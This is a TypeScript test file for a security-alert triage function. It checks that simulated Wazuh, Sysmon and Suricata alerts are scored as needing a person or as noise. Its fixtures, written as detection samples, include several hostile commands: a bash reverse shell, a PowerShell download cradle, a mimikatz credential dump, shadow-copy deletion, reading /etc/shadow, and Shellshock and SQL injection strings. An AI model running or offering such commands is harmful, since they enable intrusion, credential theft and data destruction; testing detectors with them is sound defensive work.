import { describe, expect, it } from 'vitest'
import { type AlertParts, sysmonProcess, wazuhAlert, windowsEvent } from '../../test/support/wazuh-alert.ts'
import { assessCase } from './assess-case.ts'

type Expected = 'person' | 'noise'

/** One alert by itself: does it need a person? */
function check(name: string, expected: Expected, parts: AlertParts): void {
  it(`${expected}: ${name}`, () => {
    const [assessment] = assessCase([wazuhAlert(parts)])
    const told = assessment?.signals.map(signal => `${signal.id} ${signal.weight.toFixed(1)}`).join(', ')
    expect(assessment?.probability, told)[expected === 'person' ? 'toBeGreaterThanOrEqual' : 'toBeLessThan'](
      0.5,
    )
  })
}

const sysmon = ['sysmon', 'sysmon_eid1_detections', 'windows']
const dropped = ['sysmon', 'sysmon_eid11_detections', 'windows']
const registry = ['sysmon', 'sysmon_eid13_detections', 'windows']
const security = ['windows', 'windows_security']
const powershell = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
const cmd = 'C:\\Windows\\System32\\cmd.exe'
const sysmonFile = (fields: { readonly [name: string]: string }) =>
  windowsEvent('11', 'Microsoft-Windows-Sysmon/Operational', fields)

describe('Linux', () => {
  const auth = ['syslog', 'sshd', 'authentication_failed', 'invalid_login']
  check('ssh brute force', 'person', {
    rule: [
      '5712',
      10,
      'sshd: brute force trying to get access to the system. Non existent user.',
      ['syslog', 'sshd', 'authentication_failures'],
    ],
    data: { srcip: '203.0.113.9', srcuser: 'admin' },
  })
  check('failures followed by a success', 'person', {
    rule: [
      '40112',
      12,
      'Multiple authentication failures followed by a success.',
      ['syslog', 'attacks', 'authentication_success'],
    ],
    data: { srcip: '203.0.113.9' },
  })
  check('one mistyped password from inside', 'noise', {
    rule: ['5760', 5, 'sshd: authentication failed.', ['syslog', 'sshd', 'authentication_failed']],
    data: { srcip: '192.168.1.20', dstuser: 'ann' },
  })
  check('a logon of an administrator', 'noise', {
    rule: ['5715', 3, 'sshd: authentication success.', ['syslog', 'sshd', 'authentication_success']],
    data: { srcip: '192.168.1.20', dstuser: 'ann' },
  })
  check('an invalid user from the internet, once', 'noise', {
    rule: ['5710', 5, 'sshd: Attempt to login using a non-existent user', auth],
    data: { srcip: '203.0.113.9', srcuser: 'oracle' },
  })
  check('PAM session opened', 'noise', {
    rule: ['5501', 3, 'PAM: Login session opened.', ['pam', 'syslog', 'authentication_success']],
  })
  check('PAM session closed', 'noise', { rule: ['5502', 3, 'PAM: Login session closed.', ['pam', 'syslog']] })
  check('sudo apt', 'noise', {
    rule: ['5402', 3, 'Successful sudo to ROOT executed.', ['syslog', 'sudo']],
    data: { srcuser: 'ann', dstuser: 'root', command: '/usr/bin/apt update' },
  })
  check('sudo reads the password file', 'person', {
    rule: ['5402', 3, 'Successful sudo to ROOT executed.', ['syslog', 'sudo']],
    data: { srcuser: 'www-data', dstuser: 'root', command: '/usr/bin/cat /etc/shadow' },
  })
  check('new user', 'person', {
    rule: ['5902', 8, 'New user added to the system.', ['syslog', 'adduser']],
    data: { dstuser: 'svc2' },
  })
  check('package installed', 'noise', {
    rule: ['2902', 7, 'New dpkg (Debian Package) installed.', ['syslog', 'dpkg', 'config_changed']],
  })
  check('package requested', 'noise', {
    rule: ['2901', 3, 'New dpkg (Debian Package) requested to install.', ['syslog', 'dpkg']],
  })
  check('AppArmor denied', 'noise', {
    rule: ['52002', 3, 'Apparmor DENIED', ['local', 'syslog', 'apparmor']],
  })
  check('failed unit', 'noise', {
    rule: ['40704', 5, 'Systemd: Service exited due to a failure.', ['local', 'systemd']],
  })
  check('rootkit module', 'person', {
    rule: ['5132', 11, 'Unsigned kernel module was loaded', ['syslog', 'linuxkernel']],
    log: 'kernel: reptile: module verification failed: signature and/or required key missing - tainting kernel',
  })
  check('graphics driver module', 'noise', {
    rule: ['5132', 11, 'Unsigned kernel module was loaded', ['syslog', 'linuxkernel']],
    log: 'kernel: nvidia: module verification failed: signature and/or required key missing - tainting kernel',
  })
  check('web shell written', 'person', {
    rule: [
      '554',
      5,
      'File added to the system.',
      ['ossec', 'syscheck', 'syscheck_entry_added', 'syscheck_file'],
    ],
    syscheck: { path: '/var/www/html/uploads/x.php', event: 'added', mode: 'realtime', size_after: '812' },
  })
  check('authorized_keys changed', 'person', {
    rule: [
      '550',
      7,
      'Integrity checksum changed.',
      ['ossec', 'syscheck', 'syscheck_entry_modified', 'syscheck_file'],
    ],
    syscheck: { path: '/root/.ssh/authorized_keys', event: 'modified', mode: 'realtime', size_after: '812' },
  })
  check('file in a checkout', 'noise', {
    rule: [
      '554',
      5,
      'File added to the system.',
      ['ossec', 'syscheck', 'syscheck_entry_added', 'syscheck_file'],
    ],
    syscheck: {
      path: '/home/ann/project/node_modules/a/index.js',
      event: 'added',
      mode: 'realtime',
      size_after: '90',
    },
  })
  check('document of a person', 'noise', {
    rule: [
      '550',
      7,
      'Integrity checksum changed.',
      ['ossec', 'syscheck', 'syscheck_entry_modified', 'syscheck_file'],
    ],
    syscheck: { path: '/home/ann/notes.txt', event: 'modified', mode: 'realtime', size_after: '90' },
  })
  check('reverse shell in the audit log', 'person', {
    rule: ['80792', 3, 'Audit: Command: /usr/bin/bash', ['audit', 'audit_command']],
    data: { audit: { exe: '/usr/bin/bash', command: 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1' } },
  })
})

describe('Wazuh itself', () => {
  check('agent started', 'noise', { rule: ['503', 3, 'Wazuh agent started.', ['ossec']] })
  check('agent stopped', 'noise', { rule: ['506', 3, 'Wazuh agent stopped.', ['ossec']] })
  check('SCA check failed', 'noise', {
    rule: ['19007', 7, 'CIS Benchmark: Ensure auditing is enabled', ['sca']],
  })
  check('vulnerability', 'noise', {
    rule: ['23505', 10, 'CVE-2024-0001 affects openssl', ['vulnerability-detector']],
  })
  check('ports changed', 'noise', {
    rule: ['533', 7, 'Listened ports status (netstat) changed (new port opened or closed).', ['ossec']],
  })
  check('netcat listens', 'person', {
    rule: ['533', 7, 'Listened ports status (netstat) changed (new port opened or closed).', ['ossec']],
    log: "ossec: output: 'netstat listening ports':\ntcp 0.0.0.0:4444 0.0.0.0:* 5231/nc\n",
  })
  check('log rotated', 'noise', { rule: ['591', 3, 'Log file rotated.', ['ossec']] })
  check('rootcheck on Windows', 'noise', {
    rule: ['510', 7, 'Host-based anomaly detection event (rootcheck).', ['ossec', 'rootcheck']],
  })
  check('VirusTotal', 'person', {
    rule: ['87105', 12, 'VirusTotal: Alert - /tmp/x - 55 engines detected this file', ['virustotal']],
    data: { virustotal: { positives: '55', source: { file: '/tmp/x' } } },
  })
  check('VirusTotal knows nothing', 'noise', {
    rule: ['87103', 3, 'VirusTotal: Alert - No records in VirusTotal database', ['virustotal']],
  })
  check('VirusTotal error', 'noise', {
    rule: ['87101', 3, 'VirusTotal: Error: Public API request rate limit reached', ['virustotal']],
  })
})

describe('the antivirus test file', () => {
  const eicar = '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f'
  check('found by VirusTotal', 'noise', {
    rule: ['87105', 12, 'VirusTotal: Alert - /tmp/a.txt - 66 engines detected this file', ['virustotal']],
    data: {
      virustotal: {
        positives: '66',
        source: { file: '/tmp/a.txt', sha1: '3395856ce81f2b7382dee72602f798b642f14140' },
      },
    },
  })
  check('under another name', 'noise', {
    rule: ['554', 5, 'File added to the system.', ['ossec', 'syscheck', 'syscheck_entry_added']],
    syscheck: { path: '/var/www/html/a.php', event: 'added', sha256_after: eicar, size_after: '68' },
  })
  check('only in name, but called malicious', 'person', {
    rule: [
      '87105',
      12,
      'VirusTotal: Alert - /tmp/eicar.exe - 66 engines detected this file',
      ['virustotal', 'yara'],
    ],
    data: {
      virustotal: {
        positives: '66',
        source: { file: '/tmp/eicar.exe', sha1: '1111111111111111111111111111111111111111' },
      },
    },
  })
})

describe('hostile text', () => {
  // A pattern that backtracks would take minutes on these: the test would end by its timeout.
  const pieces = [
    '\\\\',
    'windows\\\\',
    'echo >',
    'curl ',
    '%',
    '-join (',
    'clsid\\\\',
    '/htdocs/',
    'net use \\\\',
    ' or a',
    'copy',
    '^a',
  ]
  it.each(pieces)('%j repeated does not stall', piece => {
    const text = piece.repeat(Math.ceil(60_000 / piece.length))
    const alert = wazuhAlert({
      rule: ['92052', 4, text, [...sysmon, 'web', 'sudo']],
      data: {
        url: text,
        command: text,
        ...sysmonProcess({
          commandLine: text,
          image: text,
          parentImage: text,
          targetFilename: text,
          targetObject: text,
          imagePath: text,
          details: text,
        }),
      },
      log: text,
    })
    expect(assessCase([alert])).toHaveLength(1)
  })
})

describe('Windows sessions and accounts', () => {
  check('logon', 'noise', {
    rule: ['60106', 3, 'Windows Logon Success', [...security, 'authentication_success']],
    data: windowsEvent('4624', 'Security', { targetUserName: 'ann', logonType: '5' }),
  })
  check('logoff', 'noise', {
    rule: ['60137', 3, 'Windows User Logoff', security],
    data: windowsEvent('4634', 'Security', { logonType: '3' }),
  })
  check('one wrong password at the keyboard', 'noise', {
    rule: [
      '60122',
      5,
      'Logon Failure - Unknown user or bad password',
      [...security, 'authentication_failed'],
    ],
    data: windowsEvent('4625', 'Security', {
      targetUserName: 'ann',
      logonType: '2',
      subStatus: '0xc000006a',
    }),
  })
  check('many failures', 'person', {
    rule: ['60204', 10, 'Multiple Windows Logon Failures', [...security, 'authentication_failures']],
    data: windowsEvent('4625', 'Security', { targetUserName: 'administrator', logonType: '3' }),
  })
  check('account created', 'person', {
    rule: ['60109', 8, 'User account enabled or created', [...security, 'adduser', 'account_changed']],
    data: windowsEvent('4720', 'Security', { targetUserName: 'backdoor' }),
  })
  check('a computer changes its password', 'noise', {
    rule: ['60110', 8, 'User account changed', [...security, 'account_changed']],
    data: windowsEvent('4742', 'Security', { targetUserName: 'PC-7$', subjectUserName: 'PC-7$' }),
  })
  check('a weak ticket for a service account', 'person', {
    rule: ['60103', 3, 'Windows audit success event', security],
    data: windowsEvent('4769', 'Security', {
      targetUserName: 'ann@CORP',
      serviceName: 'sql-svc',
      ticketEncryptionType: '0x17',
    }),
  })
  check('administrators group changed', 'person', {
    rule: ['60154', 12, 'Administrators Group Changed', [...security, 'group_changed', 'win_group_changed']],
    data: windowsEvent('4732', 'Security', {}),
  })
  check('audit log cleared', 'person', {
    rule: ['63103', 5, 'Windows audit log was cleared', ['windows', 'logs_cleared']],
    data: windowsEvent('1102', 'Security', {}),
  })
  check('service startup type', 'noise', {
    rule: ['61104', 3, 'Service startup type was changed', ['windows', 'windows_system', 'policy_changed']],
  })
  check('application error', 'noise', {
    rule: [
      '60602',
      9,
      'Windows application error event.',
      ['windows', 'windows_application', 'system_error'],
    ],
  })
  check('software protection', 'noise', {
    rule: [
      '60642',
      3,
      'Software protection service scheduled successfully.',
      ['windows', 'windows_application'],
    ],
  })
  check('Defender found malware', 'person', {
    rule: [
      '62123',
      12,
      'Windows Defender: Antimalware platform detected potentially unwanted software',
      ['windows', 'windows_defender'],
    ],
  })
})

describe('Windows programs', () => {
  check('Office starts PowerShell', 'person', {
    rule: ['92044', 4, 'Office application started powershell', sysmon],
    data: sysmonProcess({
      image: powershell,
      parentImage: 'C:\\Program Files\\Microsoft Office\\WINWORD.EXE',
      commandLine: 'powershell.exe -w hidden -c calc',
    }),
  })
  check('download cradle', 'person', {
    rule: ['92027', 4, 'Powershell process spawned powershell instance', sysmon],
    data: sysmonProcess({
      image: powershell,
      parentImage: powershell,
      commandLine: "powershell IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')",
    }),
  })
  check('LSASS dump', 'person', {
    rule: [
      '92900',
      12,
      'Local Security Authority Subsystem Service (LSASS) process was accessed by C:\\x\\dump.exe, possible code injection',
      ['sysmon', 'sysmon_eid10_detections', 'windows'],
    ],
    data: windowsEvent('10', 'Microsoft-Windows-Sysmon/Operational', {
      sourceImage: 'C:\\x\\dump.exe',
      targetImage: 'C:\\Windows\\System32\\lsass.exe',
      grantedAccess: '0x1fffff',
    }),
  })
  check('PowerShell opens LSASS', 'person', {
    rule: [
      '92900',
      12,
      'Local Security Authority Subsystem Service (LSASS) process was accessed',
      ['sysmon', 'sysmon_eid10_detections', 'windows'],
    ],
    data: windowsEvent('10', 'Microsoft-Windows-Sysmon/Operational', {
      sourceImage: powershell,
      targetImage: 'C:\\Windows\\System32\\lsass.exe',
      grantedAccess: '0x1010',
    }),
  })
  check('WMI looks at LSASS', 'noise', {
    rule: [
      '92900',
      12,
      'Local Security Authority Subsystem Service (LSASS) process was accessed',
      ['sysmon', 'sysmon_eid10_detections', 'windows'],
    ],
    data: windowsEvent('10', 'Microsoft-Windows-Sysmon/Operational', {
      sourceImage: 'C:\\Windows\\System32\\wbem\\wmiprvse.exe',
      targetImage: 'C:\\Windows\\System32\\lsass.exe',
      grantedAccess: '0x1410',
    }),
  })
  check('a prompt opened by hand', 'noise', {
    rule: ['92052', 4, 'Windows command prompt started by an abnormal process', sysmon],
    data: sysmonProcess({
      image: cmd,
      parentImage: 'C:\\Windows\\explorer.exe',
      commandLine: '"C:\\Windows\\System32\\cmd.exe"',
    }),
  })
  check('an installer unpacks itself', 'noise', {
    rule: ['92213', 15, 'Executable file dropped in folder commonly used by malware', dropped],
    data: sysmonFile({
      image: 'C:\\Users\\ann\\Downloads\\VC_redist.x64.exe',
      targetFilename: 'C:\\Users\\ann\\AppData\\Local\\Temp\\x\\VC_redist.x64.exe',
    }),
  })
  check('malware named like an updater', 'person', {
    rule: ['92213', 15, 'Executable file dropped in folder commonly used by malware', dropped],
    data: sysmonFile({
      image: 'C:\\Users\\Public\\MicrosoftEdgeUpdate.exe',
      targetFilename: 'C:\\Users\\ann\\AppData\\Local\\Temp\\a.exe',
    }),
  })
  check('malware named like a part of Windows', 'person', {
    rule: [
      '61618',
      12,
      'Sysmon - Suspicious Process - svchost.exe',
      ['windows', 'sysmon', 'sysmon_process-anomalies'],
    ],
    data: sysmonProcess({
      image: 'C:\\ProgramData\\svchost.exe',
      parentImage: cmd,
      commandLine: 'svchost.exe',
    }),
  })
  check('a driver is installed', 'noise', {
    rule: ['92217', 6, 'Executable dropped in Windows root folder', dropped],
    data: sysmonFile({
      image: 'C:\\Windows\\System32\\drvinst.exe',
      targetFilename: 'C:\\Windows\\System32\\x.dll',
    }),
  })
  check('PowerShell talks to the internet', 'person', {
    rule: [
      '92101',
      6,
      'Powershell process communicating over TCP',
      ['sysmon', 'sysmon_eid3_detections', 'windows'],
    ],
    data: windowsEvent('3', 'Microsoft-Windows-Sysmon/Operational', {
      image: powershell,
      sourceIp: '10.0.0.1',
      destinationIp: '198.51.100.1',
      destinationPort: '443',
    }),
  })
  check('antivirus reads LSASS', 'noise', {
    rule: [
      '92900',
      12,
      'Local Security Authority Subsystem Service (LSASS) process was accessed by C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MsMpEng.exe',
      ['sysmon', 'sysmon_eid10_detections', 'windows'],
    ],
    data: windowsEvent('10', 'Microsoft-Windows-Sysmon/Operational', {
      sourceImage: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MsMpEng.exe',
      targetImage: 'C:\\Windows\\System32\\lsass.exe',
      grantedAccess: '0x1410',
    }),
  })
  check('shadow copies deleted', 'person', {
    rule: ['92032', 3, 'Suspicious Windows cmd shell execution', sysmon],
    data: sysmonProcess({
      image: 'C:\\Windows\\System32\\vssadmin.exe',
      parentImage: cmd,
      commandLine: 'vssadmin delete shadows /all /quiet',
    }),
  })
  check('browser updates itself', 'noise', {
    rule: ['92213', 15, 'Executable file dropped in folder commonly used by malware', dropped],
    data: sysmonFile({
      image: 'C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe',
      targetFilename: 'C:\\Users\\ann\\AppData\\Local\\Temp\\chrome_installer.exe',
    }),
  })
  check('policy test file', 'noise', {
    rule: ['92213', 15, 'Executable file dropped in folder commonly used by malware', dropped],
    data: sysmonFile({
      image: powershell,
      targetFilename: 'C:\\Users\\ann\\AppData\\Local\\Temp\\__PSScriptPolicyTest_ab12cd34.xyz.ps1',
    }),
  })
  check('certutil writes a program', 'person', {
    rule: ['92213', 15, 'Executable file dropped in folder commonly used by malware', dropped],
    data: sysmonFile({
      image: 'C:\\Windows\\System32\\certutil.exe',
      targetFilename: 'C:\\Users\\ann\\AppData\\Local\\Temp\\svc.exe',
    }),
  })
  check('Windows updates itself', 'noise', {
    rule: ['92219', 6, 'Possible DLL search order hijack', dropped],
    data: sysmonFile({
      image: 'C:\\Windows\\System32\\svchost.exe',
      targetFilename: 'C:\\Windows\\SoftwareDistribution\\Download\\x\\a.dll',
    }),
  })
  check('mapped drive by logon script', 'noise', {
    rule: ['92036', 3, 'A net.exe binary was started by a Windows cmd shell', sysmon],
    data: sysmonProcess({
      image: 'C:\\Windows\\System32\\net.exe',
      parentImage: cmd,
      parentCommandLine: 'cmd /c "C:\\Scripts\\logon.bat"',
      commandLine: 'net use Z: \\\\files\\public',
    }),
  })
  check('run key of a product', 'noise', {
    rule: ['92302', 6, 'Registry entry to be executed on next logon was modified', registry],
    data: windowsEvent('13', 'Microsoft-Windows-Sysmon/Operational', {
      targetObject: 'HKU\\S-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive',
      details: '"C:\\Users\\ann\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background',
      image: 'C:\\Users\\ann\\AppData\\Local\\Microsoft\\OneDrive\\OneDriveSetup.exe',
    }),
  })
  check('run key to a script', 'person', {
    rule: ['92302', 6, 'Registry entry to be executed on next logon was modified', registry],
    data: windowsEvent('13', 'Microsoft-Windows-Sysmon/Operational', {
      targetObject: 'HKU\\S-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd',
      details: 'wscript C:\\Users\\Public\\u.vbs',
      image: 'C:\\Windows\\System32\\reg.exe',
    }),
  })
  check('module that ships with Windows', 'noise', {
    rule: ['91802', 4, 'Powershell script queried registry value', ['windows', 'powershell']],
    data: windowsEvent('4104', 'Microsoft-Windows-PowerShell/Operational', {
      scriptBlockText:
        '# Copyright (c) Microsoft Corporation. All rights reserved. function Get-Something {}',
      path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\Modules\\x\\x.psm1',
    }),
  })
})

describe('network and web', () => {
  const suricata = ['ids', 'suricata']
  const signature = (text: string, extra: object = {}) => ({
    alert: { signature: text, severity: '3' },
    src_ip: '192.0.2.9',
    dest_ip: '192.0.2.7',
    ...extra,
  })
  check('policy signature', 'noise', {
    rule: ['86601', 3, 'Suricata: Alert - ET INFO Observed DNS Query', suricata],
    data: signature('ET INFO Observed DNS Query'),
  })
  check('stream noise', 'noise', {
    rule: ['86601', 3, 'Suricata: Alert - SURICATA STREAM excessive retransmissions', suricata],
    data: signature('SURICATA STREAM excessive retransmissions'),
  })
  check('malware signature', 'person', {
    rule: ['86601', 3, 'Suricata: Alert - ET MALWARE Cobalt Strike Beacon', suricata],
    data: signature('ET MALWARE Cobalt Strike Beacon'),
  })
  check('scan signature', 'person', {
    rule: ['86601', 3, 'Suricata: Alert - ET SCAN Possible Nmap User-Agent Observed', suricata],
    data: signature('ET SCAN Possible Nmap User-Agent Observed'),
  })
  const access = ['web', 'accesslog', 'attack']
  check('SQL injection answered', 'person', {
    rule: ['31103', 7, 'SQL injection attempt.', [...access, 'sql_injection']],
    data: { srcip: '203.0.113.9', id: '200', url: "/item?id=1'+or+1=1" },
  })
  check('not found', 'noise', {
    rule: ['31101', 5, 'Web server 400 error code.', access],
    data: { srcip: '203.0.113.9', id: '404', url: '/favicon.ico' },
  })
  check('shellshock', 'person', {
    rule: ['31166', 6, 'Shellshock attack attempt', access],
    data: { srcip: '203.0.113.9', id: '200', url: '/cgi-bin/status' },
    log: '203.0.113.9 - - "GET /cgi-bin/status" 200 "-" "() { :; }; /bin/id"',
  })
  check('reputation list', 'noise', {
    rule: ['86601', 3, 'Suricata: Alert - ET DROP Dshield Block Listed Source', suricata],
    data: signature('ET DROP Dshield Block Listed Source'),
  })
  check('attack distribution asks for an address', 'person', {
    rule: ['86601', 3, 'Suricata: Alert', suricata],
    data: signature('ET INFO Possible Kali Linux hostname in DHCP Request Packet'),
  })
  check('directory scan', 'person', {
    rule: [
      '31151',
      10,
      'Multiple web server 400 error codes from same source ip.',
      ['web', 'accesslog', 'web_scan', 'recon'],
    ],
    data: { srcip: '203.0.113.9', id: '404', url: '/.git/config' },
  })
})

describe('an alert and its company', () => {
  const at = 1_770_000_000_000
  const plain: AlertParts = {
    id: '1.1',
    atMs: at,
    rule: ['92052', 4, 'Windows command prompt started by an abnormal process', sysmon],
    data: sysmonProcess({
      image: cmd,
      parentImage: 'C:\\Windows\\explorer.exe',
      commandLine: 'cmd.exe /c dir',
    }),
  }
  const attack: AlertParts = {
    ...plain,
    id: '1.2',
    data: sysmonProcess({
      image: cmd,
      parentImage: powershell,
      commandLine: 'cmd /c mimikatz.exe sekurlsa::logonpasswords',
    }),
  }
  const probability = (around: AlertParts[]) =>
    assessCase([wazuhAlert(plain)], around.map(wazuhAlert))[0]?.probability ?? 0

  it('weighs more beside an attack on the same host, and says why', () => {
    expect(probability([{ ...attack, atMs: at + 60_000 }])).toBeGreaterThan(probability([]) + 0.1)
    const [assessment] = assessCase([wazuhAlert(plain)], [wazuhAlert({ ...attack, atMs: at + 60_000 })])
    expect(assessment?.signals.some(signal => signal.id === 'strong-company')).toBe(true)
  })
  it('does not weigh more for an attack elsewhere or long ago', () => {
    expect(probability([{ ...attack, host: 'other' }])).toBe(probability([]))
    expect(probability([{ ...attack, atMs: at - 3_600_000 }])).toBe(probability([]))
  })
})
